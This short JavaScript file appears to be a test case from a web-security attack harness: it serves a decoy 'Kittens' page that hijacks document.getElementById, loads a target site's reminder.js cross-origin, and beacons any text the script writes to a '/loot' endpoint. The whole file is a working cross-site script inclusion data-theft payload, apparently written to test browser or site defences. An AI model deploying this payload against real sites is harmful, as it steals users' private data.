import { exploit } from '#attack';

/** The script calls a function that the page has replaced. It sends what it gets as soon as it gets it. */
export default exploit(async ({ target, visit, say }) => {
  const script = `
    document.getElementById = (name) => ({
      set textContent(text) {
        navigator.sendBeacon('/loot', JSON.stringify({ name, text }));
      },
    });
    const script = document.createElement('script');
    script.src = ${JSON.stringify(`${target.url}/reminder.js`)};
    script.onerror = () => console.log('The browser does not run the script.');
    document.head.append(script);
  `;
  const loot = await visit(`<title>Kittens</title><script>${script}</script>`);
  if (loot === undefined) return undefined;
  say(loot);
  return JSON.parse(loot).text;
});
